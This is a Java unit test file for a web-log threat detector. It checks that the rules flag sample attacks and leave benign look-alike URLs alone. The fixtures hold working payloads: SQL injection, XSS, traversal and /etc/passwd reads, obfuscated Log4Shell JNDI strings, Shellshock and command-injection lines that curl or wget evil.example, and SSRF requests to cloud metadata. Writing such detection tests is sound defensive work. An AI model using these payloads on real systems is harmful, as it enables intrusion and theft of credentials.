package caravan.enrich.threat;

import static org.assertj.core.api.Assertions.assertThat;

import caravan.event.LogEvent;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The default rules through the enricher: each category with plain, encoded and evasive attacks, and benign look-alikes. */
class ThreatEnricherTest {
    private static final ThreatEnricher THREATS = new ThreatEnricher(ThreatRules.load(null));

    private static LogEvent request(String url) {
        LogEvent e = new LogEvent();
        e.method = "GET";
        e.urlOriginal = url;
        e.userAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:27.0) Gecko/20100101 Firefox/27.0";
        e.referrer = "https://www.example.com/";
        return e;
    }

    @SuppressWarnings("unchecked")
    private static List<String> categories(LogEvent e) {
        Object c = e.get("caravan.threat.categories");
        return c == null ? List.of() : (List<String>) c;
    }

    static Stream<Arguments> attacks() {
        return Stream.of(
                // SQL injection
                Arguments.of("sql_injection", "/products.php?id=1 UNION SELECT username, password FROM users--"),
                Arguments.of("sql_injection", "/products.php?id=1%20UnIoN%20AlL%20SeLeCt%20NULL,NULL--"),
                Arguments.of("sql_injection", "/products.php?id=1%2520union%2520select%25201"),
                Arguments.of("sql_injection", "/products.php?id=-1/**/union/**/select/**/1,2,3"),
                Arguments.of("sql_injection", "/products.php?id=1+union(select+1,2)"),
                Arguments.of("sql_injection", "/login.php?user=admin%27+OR+%271%27%3D%271&pass=x"),
                Arguments.of("sql_injection", "/login.php?user=%27or%271%27=%271"),
                Arguments.of("sql_injection", "/item?id=5 or 1=1"),
                Arguments.of("sql_injection", "/login.php?user=admin'--&pass=x"),
                Arguments.of("sql_injection", "/item?id=1%27%3B%20DROP%20TABLE%20users%3B--"),
                Arguments.of("sql_injection", "/item?id=1%20AND%20SLEEP%285%29"),
                Arguments.of("sql_injection", "/item?id=1;waitfor delay '0:0:10'--"),
                Arguments.of("sql_injection", "/item?id=1 and updatexml(1,concat(0x7e,(select @@version)),1)"),
                // XSS
                Arguments.of("xss", "/search?q=<script>alert(1)</script>"),
                Arguments.of("xss", "/search?q=%3CsCrIpT%3Ealert%28document.cookie%29%3C%2FsCrIpT%3E"),
                Arguments.of("xss", "/search?q=%253Cscript%253Ealert(1)%253C/script%253E"),
                Arguments.of("xss", "/search?q=<svg/onload=alert(1)>"),
                Arguments.of("xss", "/search?q=<img+src=x+onerror=prompt(1)>"),
                Arguments.of("xss", "/profile?name=%22%3E%3Ciframe%20src%3Djavascript:alert(1)%3E"),
                Arguments.of("xss", "/go?url=%26%23106%3Bavascript:alert(1)"),
                Arguments.of("xss", "/p?q=\"autofocus onfocus=\"alert(1)"),
                // Path traversal
                Arguments.of("path_traversal", "/download?file=../../../../etc/hosts.allow"),
                Arguments.of("path_traversal", "/download?file=%2e%2e%2f%2e%2e%2fapp.conf"),
                Arguments.of("path_traversal", "/download?file=%252e%252e%252fapp.conf"),
                Arguments.of("path_traversal", "/download?file=..%c0%af..%c0%afapp.conf"),
                Arguments.of("path_traversal", "/static/..%5c..%5c..%5cboot.txt"),
                Arguments.of("path_traversal", "/static/%2E%2E/%2E%2E/secret"),
                Arguments.of("path_traversal", "/download?file=....//....//app.conf"),
                // Local file inclusion
                Arguments.of("local_file_inclusion", "/index.php?page=/etc/passwd"),
                Arguments.of("local_file_inclusion", "/index.php?page=%2Fetc%2Fshadow%00.html"),
                Arguments.of("local_file_inclusion", "/index.php?page=php://filter/read=convert.base64-encode/resource=config"),
                Arguments.of("local_file_inclusion", "/index.php?page=pHp%3A%2F%2Finput"),
                Arguments.of("local_file_inclusion", "/fetch?src=FILE:///c:/windows/win.ini"),
                Arguments.of("local_file_inclusion", "/view?f=/proc/self/environ"),
                // Remote file inclusion
                Arguments.of("remote_file_inclusion", "/index.php?page=http://evil.example/shell.txt?"),
                Arguments.of("remote_file_inclusion", "/index.php?page=http%3A%2F%2Fevil.example%2Fshell.txt%3F"),
                Arguments.of("remote_file_inclusion", "/index.php?INCLUDE=HTTPS://evil.example/x.php"),
                // OS command injection
                Arguments.of("command_injection", "/cgi-bin/ping?host=127.0.0.1;cat+/etc/issue"),
                Arguments.of("command_injection", "/cgi-bin/ping?host=127.0.0.1%7Cwhoami"),
                Arguments.of("command_injection", "/cgi-bin/ping?host=127.0.0.1%26%26id"),
                Arguments.of("command_injection", "/cgi-bin/ping?host=%24%28wget%20evil.example%2Fx%29"),
                Arguments.of("command_injection", "/cgi-bin/ping?host=%60uname%20-a%60"),
                Arguments.of("command_injection", "/cgi-bin/ping?host=x%0Acurl%20evil.example"),
                Arguments.of("command_injection", "/run?c=cmd.exe%20%2Fc%20whoami"),
                Arguments.of("command_injection", "/run?c=%2Fbin%2Fsh%20-c%20id"),
                // Log4Shell
                Arguments.of("log4shell", "/?q=${jndi:ldap://evil.example:1389/a}"),
                Arguments.of("log4shell", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
                Arguments.of("log4shell", "/?q=%2524%257Bjndi%253Armi%253A%252F%252Fx%257D"),
                Arguments.of("log4shell", "/?q=${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://evil.example/a}"),
                Arguments.of("log4shell", "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"),
                Arguments.of("log4shell", "/?q=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}"),
                Arguments.of("log4shell", "/?q=${JnDi:LdAp://evil.example/a}"),
                // Sensitive-file probes
                Arguments.of("sensitive_file_probe", "/.env"),
                Arguments.of("sensitive_file_probe", "/laravel/.env.local"),
                Arguments.of("sensitive_file_probe", "/.git/HEAD"),
                Arguments.of("sensitive_file_probe", "/%2Egit/config"),
                Arguments.of("sensitive_file_probe", "/assets/..%2F.git%2Fconfig"),
                Arguments.of("sensitive_file_probe", "/WP-Config.php"),
                Arguments.of("sensitive_file_probe", "/wordpress/wp-config.php.save"),
                Arguments.of("sensitive_file_probe", "/phpMyAdmin/index.php"),
                Arguments.of("sensitive_file_probe", "/server-status?auto"),
                Arguments.of("sensitive_file_probe", "//server-status"),
                // SSRF to metadata services
                Arguments.of("ssrf", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
                Arguments.of("ssrf", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fapi%2Ftoken"),
                Arguments.of("ssrf", "/proxy?u=http://metadata.google.internal/computeMetadata/v1/instance/"),
                Arguments.of("ssrf", "/proxy?u=http://[fd00:ec2::254]/latest/meta-data/"),
                Arguments.of("ssrf", "/proxy?u=http://0251.0376.0251.0376/"),
                Arguments.of("ssrf", "/proxy?u=http://[::ffff:a9fe:a9fe]/latest/user-data"),
                Arguments.of("ssrf", "http://169.254.169.254/latest/meta-data/iam/"));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("attacks")
    void flagsAttack(String category, String url) {
        LogEvent e = request(url);
        THREATS.enrich(e);
        assertThat(e.get("caravan.threat.detected")).isEqualTo(Boolean.TRUE);
        assertThat(categories(e)).contains(category);
    }

    static Stream<String> benignLookAlikes() {
        return Stream.of(
                // SQL words in ordinary URLs
                "/blog/union-station", "/shop?selection=1", "/blog/2014/05/select-the-best-union-for-you.html",
                "/search?q=rock+or+roll", "/search?q=black+and+white", "/people/o'brien", "/blog/sleep-better",
                "/docs/information-schema.html", "/search?q=%22--verbose%22",
                // markup words
                "/scripts/app.js", "/blog/javascript-tips.html", "/search?q=onload+event", "/blog/alert-fatigue",
                "/search?q=1%3C2", "/static/svg/logo.svg",
                // dots and files
                "/docs/v1..v2/changes", "/search?q=wait...what", "/etc/passwords-guide.html",
                "/blog/understanding-etc-passwd.html", "/man/5/passwd", "/docs/php-filter-tutorial",
                "/blog/the-file-protocol", "/login?next=https://example.com/account", "/out?url=https://example.com/a?b=1",
                // shell-ish characters
                "/a;jsessionid=0123ABC", "/?C=M;O=A", "/search?q=cat+food|dog+food", "/blog/powershell-tips",
                "/docs/bin/shell-scripting", "/download?file=report&id=7", "/cgi-bin/awstats.pl",
                // lookups and probes
                "/blog/jndi-explained", "/docs/templates?var=${name}", "/.environment-setup.html",
                "/.well-known/security.txt", "/blog/wp-config-explained.html", "/blog/server-status-codes-explained",
                "/docs/phpmyadmin-alternatives.html", "/actuator/health", "/blog/aws-instance-metadata-explained",
                "/stats?ip=169.254.16.9", "/order?id=128520391660", "/scripts/python/wrap.backup/");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("benignLookAlikes")
    void leavesLookAlikeAlone(String url) {
        LogEvent e = request(url);
        THREATS.enrich(e);
        assertThat(e.get("caravan.threat.detected")).as("rules %s", e.get("caravan.threat.rules")).isEqualTo(Boolean.FALSE);
        assertThat(e.get("caravan.threat.categories")).isNull();
    }

    @Test
    void looksAtTheUserAgentAndTheReferrer() {
        LogEvent shellshock = request("/cgi-bin/status");
        shellshock.userAgent = "() { :; }; /bin/bash -c 'curl evil.example'";
        THREATS.enrich(shellshock);
        assertThat(categories(shellshock)).containsExactly("command_injection");

        LogEvent jndiUa = request("/");
        jndiUa.userAgent = "${jndi:ldap://evil.example/ua}";
        THREATS.enrich(jndiUa);
        assertThat(categories(jndiUa)).containsExactly("log4shell");

        LogEvent sqlReferrer = request("/");
        sqlReferrer.referrer = "http://x/?id=1' union select password from users--";
        THREATS.enrich(sqlReferrer);
        assertThat(categories(sqlReferrer)).containsExactly("sql_injection");

        LogEvent xssUa = request("/");
        xssUa.userAgent = "<script>alert(1)</script>";
        THREATS.enrich(xssUa);
        assertThat(categories(xssUa)).containsExactly("xss");
    }

    @Test
    void cachedUserAgentAndReferrerVerdictsStayRight() {
        ThreatEnricher threats = new ThreatEnricher(ThreatRules.load(null), 2);
        for (int i = 0; i < 3; i++) {
            LogEvent attack = request("/");
            attack.userAgent = "${jndi:ldap://evil.example/ua}";
            attack.referrer = "http://x/?q=<script>alert(1)</script>";
            threats.enrich(attack);
            assertThat(categories(attack)).as("round %d", i).containsExactly("xss", "log4shell");
            LogEvent clean = request("/");
            threats.enrich(clean);
            assertThat(clean.get("caravan.threat.detected")).isEqualTo(Boolean.FALSE);
        }
    }

    @Test
    void userAgentSemicolonsAndSearchReferrersAreNotAttacks() {
        LogEvent e = request("/blog/geekery/xvfb-firefox.html");
        e.userAgent = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10";
        e.referrer = "http://www.google.com/search?q=select+a+union+of+sets+in+python";
        THREATS.enrich(e);
        assertThat(e.get("caravan.threat.detected")).isEqualTo(Boolean.FALSE);
    }

    @Test
    void reportsEveryMatchedRuleAndCategoryOnceAndTheWorstSeverity() {
        LogEvent e = request("/index.php?page=../../../etc/passwd&cmd=;id");
        THREATS.enrich(e);
        assertThat(categories(e)).containsExactly("path_traversal", "local_file_inclusion", "command_injection");
        assertThat(e.get("caravan.threat.rules")).isEqualTo(List.of("path-traversal", "lfi-system-file", "cmdi-chained-command"));
        assertThat(e.get("caravan.threat.severity")).isEqualTo("critical");
    }

    @Test
    void aRequestLineTheParserCouldNotSplitIsStillChecked() {
        LogEvent e = new LogEvent();
        e.put(ThreatEnricher.INVALID_REQUEST, "() { :; }; /bin/sh -c id");
        THREATS.enrich(e);
        assertThat(categories(e)).containsExactly("command_injection");
    }

    @Test
    void eventsWithoutHttpFieldsGetNoThreatFields() {
        LogEvent e = new LogEvent();
        e.message = "app started in 3s; cat=startup";
        THREATS.enrich(e);
        assertThat(e.fields()).isEmpty();
    }

    @Test
    void hugeAdversarialInputsAreHandled() {
        // A megabyte of near-misses for every rule, in every target: no stack overflow, no hit.
        String nearMiss = "%25%27 or%2f..x;ca<scrip${jn union selec /etc/passw ${".repeat(20_000);
        LogEvent e = request("/?q=" + nearMiss);
        e.userAgent = nearMiss;
        e.referrer = nearMiss;
        THREATS.enrich(e);
        assertThat(e.get("caravan.threat.detected")).isEqualTo(Boolean.FALSE);
    }
}
